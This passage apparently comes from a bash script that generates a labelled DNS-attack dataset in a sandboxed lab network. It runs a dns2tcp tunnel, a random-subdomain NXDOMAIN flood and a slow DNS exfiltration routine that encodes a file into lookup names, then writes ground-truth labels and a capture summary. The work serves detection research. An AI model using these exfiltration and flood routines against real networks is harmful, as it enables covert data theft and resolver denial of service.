  sleep "$ATTACK_START"
  local from to left n=0
  from=$(now)
  while :; do
    left=$(awk -v e="$MAL_END" -v n="$(now)" 'BEGIN{printf "%d", e-n}')
    (( left > 5 )) || break
    n=$((n + 1))
    echo "[$(date -u +%T)] dns2tcpc session $n (${left}s left)"
    { echo "UP 1000000000"; head -c $(( D2T_RATE * left + 1000 )) /dev/urandom; } | pv -q -L "$D2T_RATE" |
      ip netns exec "$P-d2t" timeout "$left" dns2tcpc -f /dev/null -z "$D2T_DOMAIN" -k "$D2T_KEY" -r sink \
        -T "$D2T_TYPE" -l - "$RES_LAN" >>"$LOGS/dns2tcpc.out" 2>&1 || true
    sleep 3
  done
  to=$(now)
  echo "{\"from\": $from, \"to\": $to, \"sessions\": $n}" >"$W/d2t.mark.json"
}
D2T_RUN_PID=""; has_attack dns2tcp && { dns2tcp_run >"$LOGS/dns2tcp-run.out" 2>&1 & D2T_RUN_PID=$!; }

# random-subdomain ("water torture") flood: dnsperf sends FLOOD_QPS A queries a
# second for FLOOD_SECS s through the resolver, each a never-seen random label
# (6-14 of [a-z0-9], like Mirai's attack) under FLOOD_DOMAIN, which the fake
# internet serves: every one is a cache miss for unbound and an NXDOMAIN from
# the domain's own (NSD) server
nxflood_run() {
  sleep "$ATTACK_START"
  "$PY" - "$W/nxflood.queries" "$FLOOD_DOMAIN" $(( FLOOD_QPS * FLOOD_SECS + 50 )) "$SEED" <<'PYEOF'
import random, sys
out, dom, n, seed = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4])
r = random.Random(seed * 7 + 3)
seen = set()
with open(out, "w") as f:
    while len(seen) < n:
        lab = "".join(r.choice("abcdefghijklmnopqrstuvwxyz0123456789") for _ in range(r.randint(6, 14)))
        if lab not in seen:
            seen.add(lab)
            f.write("%s.%s A\n" % (lab, dom))
PYEOF
  local from to
  from=$(now)
  ip netns exec "$P-flood" timeout $(( FLOOD_SECS + 30 )) dnsperf -s "$RES_LAN" -d "$W/nxflood.queries" -n 1 \
    -c 1 -Q "$FLOOD_QPS" -l "$FLOOD_SECS" -t 5 -S 30 >"$LOGS/dnsperf.out" 2>&1 || true
  to=$(now)
  echo "{\"from\": $from, \"to\": $to}" >"$W/flood.mark.json"
}
FLOOD_RUN_PID=""; has_attack nxflood && { nxflood_run >"$LOGS/nxflood-run.out" 2>&1 & FLOOD_RUN_PID=$!; }

# slow exfiltration: a real file (gzip -9, base32, lowercase, no padding) in
# 100-character chunks, one dig A lookup every EXFIL_MIN-EXFIL_MAX s:
# <4 hex sequence><48 chars>.<52 chars>.<EXFIL_DOMAIN> (wildcard A), so a
# 5-minute window holds 2-3 encoded names; the file is sent again from the
# start if it runs out before MAL_END
slowexfil_run() {
  sleep "$ATTACK_START"
  local data seq=0 off=0 first="" last="" c name left gap
  data=$(gzip -9 -c -n "$EXFIL_FILE" | base32 -w 0 | tr -d '=' | tr 'A-Z' 'a-z')
  RANDOM=$(( SEED * 31 + 7 ))
  while :; do
    (( off + 100 <= ${#data} )) || off=0
    c=${data:off:100}; off=$(( off + 100 ))
    name=$(printf '%04x%s.%s.%s' "$seq" "${c:0:48}" "${c:48:52}" "$EXFIL_DOMAIN")
    [[ -n "$first" ]] || first=$(now)
    last=$(now)
    echo "$last $name"
    ip netns exec "$P-exf" timeout 20 dig @"$RES_LAN" +tries=2 +time=3 +short "$name" A >/dev/null 2>&1 || true
    seq=$(( seq + 1 ))
    gap=$(( EXFIL_MIN + RANDOM % (EXFIL_MAX - EXFIL_MIN + 1) ))
    left=$(awk -v e="$MAL_END" -v n="$(now)" 'BEGIN{printf "%d", e-n}')
    (( left > gap )) || break
    sleep "$gap"
  done
  [[ -n "$first" ]] && echo "{\"first\": $first, \"last\": $last, \"stopped\": $(now), \"lookups\": $seq}" >"$W/exf.mark.json"
}
EXFIL_RUN_PID=""; has_attack slowexfil && { slowexfil_run >"$LOGS/slowexfil-run.out" 2>&1 & EXFIL_RUN_PID=$!; }

log "hosts:"; for h in "${HOSTS[@]}"; do echo "    $h"; done
log "waiting for the capture to finish (${DURATION}s)"
wait_pid $CAP_PID $(( DURATION + 60 ))
CAP_STOP=$(now)
[[ -n "$TUN_RUN_PID" ]] && wait_pid $TUN_RUN_PID 120
[[ -n "$D2T_RUN_PID" ]] && wait_pid $D2T_RUN_PID 60
[[ -n "$FLOOD_RUN_PID" ]] && wait_pid $FLOOD_RUN_PID 60
[[ -n "$EXFIL_RUN_PID" ]] && wait_pid $EXFIL_RUN_PID 60
log "capture done: $(stat -c %s "$PCAP") bytes; $(cat "$W/tunnel.status" 2>/dev/null || echo 'no tunnel status')"

# ---------------------------------------------------------------- ground truth
HOSTS_TXT=$(printf '%s\n' "${HOSTS[@]}")
"$PY" - "$OUT/labels.json" "$CAP_START" "$CAP_STOP" "$W" <<EOF
import json, sys, datetime
out, cs, ce, w = sys.argv[1], float(sys.argv[2]), float(sys.argv[3]), sys.argv[4]
# role -> (mark file, scenario); marks with first/last[/stopped] (lookup-driven
# attacks) or from/to (tunnel clients, launch to exit)
ATTACK = {"dga": ("dga.mark.json", "dga_beacon"), "dictdga": ("ddga.mark.json", "dga_dictionary"),
          "beacon": ("bcn.mark.json", "c2_beacon"), "phish": ("phish.mark.json", "phishing"),
          "tunnel": ("tunnel.mark.json", "dns_tunnel"), "dns2tcp": ("d2t.mark.json", "slow_exfil"),
          "nxflood": ("flood.mark.json", "nxdomain_flood"), "slowexfil": ("exf.mark.json", "slow_exfil")}
def ts(t):
    return datetime.datetime.fromtimestamp(t, datetime.timezone.utc).isoformat(timespec="milliseconds").replace("+00:00", "Z")
def load(p):
    try:
        return json.load(open(p))
    except (OSError, ValueError):
        return None
labels = []
for line in """$HOSTS_TXT""".strip().splitlines():
    name, ip, role = line.split()
    mal = None
    if role in ATTACK:
        m = load(w + "/" + ATTACK[role][0])
        if m and m.get("first"):
            mal = (m["first"] - 0.5, max(m["last"] + 3.0, m.get("stopped", 0)), ATTACK[role][1])
        elif m and m.get("from"):
            mal = (m["from"] - 0.5, m["to"] + 1.0, ATTACK[role][1])
    if mal is None:
        labels.append({"host": ip, "label": "benign", "scenario": "benign", "from": ts(cs), "to": ts(ce)})
        continue
    f, t, sc = max(mal[0], cs), min(mal[1], ce), mal[2]
    if f - cs > 1:
        labels.append({"host": ip, "label": "benign", "scenario": "benign", "from": ts(cs), "to": ts(f)})
    labels.append({"host": ip, "label": "malicious", "scenario": sc, "from": ts(f), "to": ts(t)})
    if ce - t > 1:
        labels.append({"host": ip, "label": "benign", "scenario": "benign", "from": ts(t), "to": ts(ce)})
json.dump(labels, open(out, "w"), indent=1)
open(out, "a").write("\n")
EOF
{
  echo "# lab hosts (name ip role) — seed $SEED, tag $TAG"
  printf '%s\n' "${HOSTS[@]}"
  echo "resolver $RES_LAN (client side), $RES_UP (upstream); auth $AUTH; iodined $IOD; tunnel $TUN_SRV/27; dns2tcpd $D2S"
  echo "attacks: ${ATTACKS:-none} from ${ATTACK_START}s (dga ${DGA_START}s, iodine ${TUN_START}s)"
} >"$OUT/hosts.txt"

# ---------------------------------------------------------------- summary
summary() {
  local f=$1
  echo "== capture: $f"
  if command -v capinfos >/dev/null; then capinfos -c -u -a -e "$f" | sed 1d; fi
  if command -v tshark >/dev/null; then
    echo "== per client: queries, responses by rcode, query types"
    tshark -r "$f" -n -Y dns -T fields -E separator=/t -e ip.src -e ip.dst -e dns.flags.response \
      -e dns.flags.rcode -e dns.qry.type 2>/dev/null | awk -F'\t' -v R="$RES_LAN" '
      { host = ($3 == "1" || $3 == "True") ? $2 : $1
        if ($3 == "1" || $3 == "True") { rc[host, $4]++; resp[host]++ } else { q[host]++; qt[host, $5]++ }
        hosts[host] = 1 }
      END {
        split("0 NOERROR 2 SERVFAIL 3 NXDOMAIN 5 REFUSED", m, " ")
        for (h in hosts) {
          line = sprintf("%-13s queries=%-6d responses=%-6d", h, q[h], resp[h])
          for (i = 1; i < 9; i += 2) if (rc[h, m[i]] > 0) line = line sprintf(" %s=%d", m[i+1], rc[h, m[i]])
          t = ""; split("1 A 28 AAAA 65 HTTPS 12 PTR 15 MX 10 NULL 16 TXT 5 CNAME 2 NS 33 SRV 6 SOA 25 KEY", qq, " ")
          for (i = 1; i < 25; i += 2) if (qt[h, qq[i]] > 0) t = t sprintf(" %s:%d", qq[i+1], qt[h, qq[i]])
          print line "  qtypes" t
        }
      }' | sort -t. -k4 -n | awk 'NR == FNR { role[$2] = $1 " " $3; next } { printf "%-20s %s\n", role[$1], $0 }' "$OUT/hosts.txt" -
  else
    tcpdump -r "$f" -n 2>/dev/null | awk '{print $3}' | sed 's/\.[0-9]*$//' | sort | uniq -c
  fi
}
summary "$PCAP" | tee "$OUT/summary.txt"
gzip -9 -f "$PCAP"
log "wrote $PCAP.gz ($(stat -c %s "$PCAP.gz") bytes), $OUT/labels.json, $OUT/summary.txt, $OUT/hosts.txt"
